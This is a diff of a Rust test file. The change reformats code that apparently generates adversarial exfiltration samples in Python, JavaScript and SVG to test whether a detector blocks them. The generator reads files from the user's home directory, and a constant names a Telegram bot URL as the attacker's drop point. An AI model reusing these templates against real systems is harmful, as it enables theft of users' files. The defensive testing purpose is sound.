@@ -227,7 +227,8 @@ impl Cell {
         self.source == Source::Env
     }
 
-    const ATTACKER_BOT: &'static str = "https://api.telegram.org/bot6123456789:AAFx-drop/sendMessage";
+    const ATTACKER_BOT: &'static str =
+        "https://api.telegram.org/bot6123456789:AAFx-drop/sendMessage";
 }
 
 fn b64(text: &str) -> String {
@@ -248,11 +249,13 @@ fn first_component(text: &str) -> (&str, &str) {
 // ---------------------------------------------------------------- Python
 
 fn python(cell: &Cell) -> Option<String> {
-    let mut code = String::from("import base64\nimport binascii\nimport os\nimport socket\nfrom pathlib import Path\n\nimport requests\n\n");
+    let mut code = String::from(
+        "import base64\nimport binascii\nimport os\nimport socket\nfrom pathlib import Path\n\nimport requests\n\n",
+    );
     let read = match (cell.file(), cell.indirection) {
-        (Some(file), Indirection::Literal) => format!(
-            "data = open(os.path.expanduser(\"~/{file}\"), \"rb\").read()\n"
-        ),
+        (Some(file), Indirection::Literal) => {
+            format!("data = open(os.path.expanduser(\"~/{file}\"), \"rb\").read()\n")
+        }
         (Some(file), Indirection::Constant) => format!(
             "TARGET = \"~/{file}\"\n\ndata = open(os.path.expanduser(TARGET), \"rb\").read()\n"
         ),
@@ -333,7 +336,9 @@ fn python(cell: &Cell) -> Option<String> {
 // ---------------------------------------------------------------- JavaScript / TypeScript
 
 fn javascript(cell: &Cell) -> Option<String> {
-    let mut code = String::from("const fs = require(\"fs\");\nconst os = require(\"os\");\nconst path = require(\"path\");\nconst dns = require(\"dns\");\n\n");
+    let mut code = String::from(
+        "const fs = require(\"fs\");\nconst os = require(\"os\");\nconst path = require(\"path\");\nconst dns = require(\"dns\");\n\n",
+    );
     let read = match (cell.file(), cell.indirection) {
         (Some(file), Indirection::Literal) => {
             format!("const data = fs.readFileSync(`${{os.homedir()}}/{file}`);\n")
@@ -685,7 +690,9 @@ fn svg(cell: &Cell) -> Option<String> {
             read.replace('&', "&amp;").replace('<', "&lt;")
         )
     } else {
-        format!("  <script type=\"application/ecmascript\"><![CDATA[\n{read}\n{send}\n  ]]></script>\n")
+        format!(
+            "  <script type=\"application/ecmascript\"><![CDATA[\n{read}\n{send}\n  ]]></script>\n"
+        )
     };
     Some(format!(
         "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\" viewBox=\"0 0 64 64\">\n  <title>acme-notes</title>\n  <circle cx=\"32\" cy=\"32\" r=\"30\" fill=\"#4a90d9\"/>\n{body}</svg>\n"
@@ -827,7 +834,9 @@ fn adversarial_matrix_ratchet_and_honest_twins() {
         }
     }
 
-    let mut printed = String::from("| carrier | indirection | attacks blocked | twins passing |\n|---|---|---|---|\n");
+    let mut printed = String::from(
+        "| carrier | indirection | attacks blocked | twins passing |\n|---|---|---|---|\n",
+    );
     let (mut caught, mut total) = (0, 0);
     for ((carrier, indirection), tally) in &table {
         caught += tally.caught;
